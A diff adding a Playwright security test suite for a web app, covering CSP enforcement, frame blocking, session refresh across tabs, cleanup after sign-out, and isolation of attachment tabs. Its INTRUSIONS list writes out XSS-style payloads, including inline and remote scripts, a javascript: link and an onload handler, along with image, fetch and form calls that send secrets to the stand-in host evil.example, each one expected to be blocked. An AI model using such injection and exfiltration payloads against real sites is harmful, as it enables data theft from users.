@@ -1,0 +1,162 @@
+import type { BrowserContext, Page } from '@playwright/test'
+import { GUEST } from './demoUsers'
+import { expect, signIn, test } from './fixtures'
+import { PHOTO } from './flows'
+import { ROW } from './places'
+
+/** What a stranger who can write into our page would try; each sets `window.stolen` if it runs. */
+const INTRUSIONS: readonly [what: string, directive: string, run: () => void][] = [
+  ['a script in the page', 'script-src-elem', () => insert('script', { textContent: 'window.stolen = 1' })],
+  ['a script from elsewhere', 'script-src-elem', () => insert('script', { src: 'https://evil.example/x.js' })],
+  ['a script in an address', 'script-src-elem', () => insert('script', { src: 'data:text/javascript,window.stolen=1' })],
+  ['a handler in the markup', 'script-src-attr', () => insertMarkup('<img src="/favicon.svg" onload="window.stolen = 1">')],
+  ['a link to a script', 'script-src-elem', () => insert('a', { href: 'javascript:window.stolen=1' }).click()],
+  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the very thing that must not work
+  ['text run as code', 'script-src', () => void window.setTimeout('window.stolen = 1')],
+  ['a frame', 'frame-src', () => insert('iframe', { src: 'https://evil.example/' })],
+  ['a plug-in', 'object-src', () => insert('object', { data: 'https://evil.example/x.pdf' })],
+  ['a picture that tells what was seen', 'img-src', () => insert('img', { src: 'https://evil.example/?secret' })],
+  ['a call that tells what was seen', 'connect-src', () => void fetch('https://evil.example/?secret').catch(() => undefined)],
+  ['a style from elsewhere', 'style-src-elem', () => insert('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })],
+  ['a style without the nonce', 'style-src-elem', () => insert('style', { textContent: 'body { display: none }' })],
+  ['another base for all addresses', 'base-uri', () => insert('base', { href: 'https://evil.example/' })],
+  ['a form that sends a password away', 'form-action', () => insert('form', { action: 'https://evil.example/' }).submit()],
+]
+
+/** Present in the page only: {@link INTRUSIONS} run there. */
+declare function insert<Tag extends keyof HTMLElementTagNameMap>(
+  tag: Tag,
+  properties: Partial<HTMLElementTagNameMap[Tag]>,
+): HTMLElementTagNameMap[Tag]
+declare function insertMarkup(markup: string): void
+
+test('the policy is enforced: nothing that is put into the page runs, loads or leaves', async ({ page, consoleErrors }) => {
+  const left: string[] = []
+  // What the policy stops never gets as far as the network.
+  await page.route(/evil\.example/, (route) => {
+    left.push(route.request().url())
+    return route.abort()
+  })
+  await page.goto('/login')
+  await expect(page.getByLabel('Email')).toBeVisible()
+  await page.evaluate(() => {
+    Object.assign(window, {
+      insert: (tag: string, properties: object) =>
+        document.body.appendChild(Object.assign(document.createElement(tag), properties)),
+      insertMarkup: (markup: string) => document.body.insertAdjacentHTML('beforeend', markup),
+    })
+  })
+  for (const [what, directive, run] of INTRUSIONS) {
+    // By way of a timer: what the debugger itself evaluates is beyond the policy.
+    const stopped = page.evaluate(async (source) => {
+      const violation = new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
+        window.setTimeout(() => resolve('nothing'), 2_000)
+      })
+      // The functions of the list arrive here as text; the debugger may evaluate it.
+      window.setTimeout((0, eval)(`(${source})`) as () => void)
+      return violation
+    }, run.toString())
+    expect([what, await stopped]).toEqual([what, directive])
+  }
+  expect(await page.evaluate(() => (window as unknown as { stolen?: number }).stolen)).toBeUndefined()
+  expect(left).toEqual([])
+  expect(consoleErrors.length).toBeGreaterThan(0)
+  expect(consoleErrors.filter((line) => !/Content Security Policy|violates the following/.test(line))).toEqual([])
+  consoleErrors.length = 0
+})
+
+test('the app may not be framed by another page, nor by itself', async ({ page, appServer, consoleErrors }) => {
+  await page.route('**/frame-test', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${appServer.url}/login"></iframe>` }),
+  )
+  await page.goto('/frame-test')
+  await expect(page.frameLocator('iframe').getByLabel('Email')).toHaveCount(0)
+  expect(page.frames().map((frame) => frame.url())).not.toContain(`${appServer.url}/login`)
+  consoleErrors.length = 0
+})
+
+/** Counts how many refreshes of the session are under way at once, over all tabs of a browser; each takes a moment. */
+async function watchRefreshes(context: BrowserContext) {
+  const seen = { now: 0, most: 0, all: 0 }
+  await context.route('**/user/refresh-token', async (route) => {
+    seen.now += 1
+    seen.all += 1
+    seen.most = Math.max(seen.most, seen.now)
+    const answer = await route.fetch()
+    // Long enough for the other tabs to ask meanwhile, if nothing held them back.
+    await new Promise((resolve) => setTimeout(resolve, 300))
+    seen.now -= 1
+    await route.fulfill({ response: answer })
+  })
+  return seen
+}
+
+test('several tabs renew their session one after the other, and all stay signed in', async ({ page, context }) => {
+  await signIn(page)
+  const tabs: Page[] = [page, await context.newPage(), await context.newPage()]
+  const seen = await watchRefreshes(context)
+  await Promise.all(tabs.map((tab) => tab.goto('/inventory')))
+  for (const tab of tabs) await expect(tab.locator(ROW).first()).toBeVisible()
+  expect([seen.all, seen.most]).toEqual([3, 1])
+  await context.unrouteAll()
+})
+
+test('after a sign-out nothing that was seen comes back: not by the Back button, not for the next person', async ({ page }) => {
+  await signIn(page)
+  await page.goto('/shipments')
+  const first = page.locator(ROW).first()
+  await expect(first).toBeVisible()
+  const shipmentNbr = (await first.getAttribute('data-id')) ?? 'none'
+  await page.getByRole('button', { name: 'Sign out' }).click()
+  await expect(page).toHaveURL(/\/login$/)
+  for (const way of ['back', 'reload'] as const) {
+    await (way === 'back' ? page.goBack() : page.reload())
+    await expect(page.getByLabel('Email')).toBeVisible()
+    await expect(page.getByText(shipmentNbr)).toHaveCount(0)
+  }
+  await page.getByLabel('Email').fill(GUEST.email)
+  await page.getByLabel(/^Password/).fill(GUEST.password)
+  await page.getByRole('button', { name: 'Sign in' }).click()
+  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible()
+  await page.goto('/shipments')
+  await expect(page.getByText("You don't have permission to view shipments.")).toBeVisible()
+  await expect(page.getByText(shipmentNbr)).toHaveCount(0)
+  const kept = await page.evaluate(async () => [
+    JSON.stringify({ ...localStorage, ...sessionStorage }),
+    document.cookie,
+    String((await caches.keys()).length),
+    String((await indexedDB.databases()).length),
+  ])
+  expect(kept.slice(1)).toEqual(['', '0', '0'])
+  expect(kept[0]).not.toMatch(new RegExp(`eyJ|${shipmentNbr}|demo@`))
+})
+
+test('a file opens in a tab that cannot reach back into the app; a blocked popup is said', async ({ page }) => {
+  await signIn(page)
+  await page.goto('/shipments')
+  await page.locator(ROW).filter({ hasText: 'Open' }).first().click()
+  await page.getByRole('button', { name: 'Add Attachment' }).click()
+  const attachment = page.getByRole('dialog', { name: /Attachment/ })
+  await attachment.locator('input[type=file]').setInputFiles({ name: 'crate.png', mimeType: 'image/png', buffer: PHOTO })
+  await attachment.getByRole('button', { name: 'Upload' }).click()
+  const view = attachment.getByRole('button', { name: 'View crate.png' })
+  await expect(view).toBeVisible()
+
+  const opening = page.waitForEvent('popup')
+  await view.click()
+  const tab = await opening
+  await tab.waitForURL(/^blob:/)
+  expect(await tab.evaluate(() => window.opener === null)).toBe(true)
+  await tab.close()
+
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  await page.evaluate(() => Object.assign(window, { open: () => null }))
+  // A second click within 300 ms of the first would be swallowed.
+  await expect(async () => {
+    await view.click()
+    await expect(page.getByText('Popup blocked - please allow popups to view files')).toBeVisible({ timeout: 500 })
+  }).toPass()
+  expect(asked).toEqual([])
+})
